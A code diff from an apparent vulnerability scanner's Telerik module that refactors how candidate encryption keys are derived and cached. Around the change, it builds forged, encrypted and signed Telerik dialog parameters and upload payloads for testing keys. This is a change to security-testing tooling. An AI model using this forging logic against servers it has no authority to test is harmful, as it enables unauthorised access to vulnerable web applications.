@@ -304,10 +304,9 @@ class AsyncUpload:
                 ):
                     derive_algos = self.select_derive_algos(telerik_version)
                     for derive_algo in derive_algos:
-                        if derive_algo == "PBKDF1_MS":
-                            derived_key, iv = self.telerik_encryptionkey.telerik_derivekeys_PBKDF1_MS(key)
-                        elif derive_algo == "PBKDF2":
-                            derived_key, iv = self.telerik_encryptionkey.telerik_derivekeys_PBKDF2(key)
+                        derived_key, iv = self.telerik_encryptionkey.telerik_derivekeys_cached(
+                            key, derive_algo, self.include_machinekeys_bool, build=True
+                        )
 
                         data, multipart_boundary = self.rau_data_prep(telerik_version, derived_key, iv, hashkey)
                         # Prepare headers for the request.
@@ -353,9 +352,7 @@ class DialogHandler:
         b64section_plain = f"Telerik.Web.UI.Editor.DialogControls.DocumentManagerDialog, Telerik.Web.UI, Version={version}, Culture=neutral, PublicKeyToken=121fae78165ba3d4"
         b64section = base64.b64encode(b64section_plain.encode()).decode()
         plaintext = f"EnableAsyncUpload,False,3,True;DeletePaths,True,0,Zmk4dUx3PT0sZmk4dUx3PT0=;EnableEmbeddedBaseStylesheet,False,3,True;RenderMode,False,2,2;UploadPaths,True,0,Zmk4dUx3PT0sZmk4dUx3PT0=;SearchPatterns,True,0,S2k0cQ==;EnableEmbeddedSkins,False,3,True;MaxUploadFileSize,False,1,204800;LocalizationPath,False,0,;FileBrowserContentProviderTypeName,False,0,;ViewPaths,True,0,Zmk4dUx3PT0sZmk4dUx3PT0=;IsSkinTouch,False,3,False;ExternalDialogsPath,False,0,;Language,False,0,ZW4tVVM=;Telerik.DialogDefinition.DialogTypeName,False,0,{b64section};AllowMultipleSelection,False,3,False"
-        derivedKey, derivedIV = self.telerik_encryptionkey.telerik_derivekeys(
-            self.encryption_key, self.key_derive_mode
-        )
+        derivedKey, derivedIV = self.telerik_encryptionkey.telerik_derivekeys(self.encryption_key, self.key_derive_mode)
         ct = self.telerik_encryptionkey.telerik_encrypt(derivedKey, derivedIV, plaintext)
         dialog_parameters = self.telerik_hashkey.sign_enc_dialog_params(self.hash_key, ct)
         dialog_parameters_data = {"dialogParametersHolder": dialog_parameters}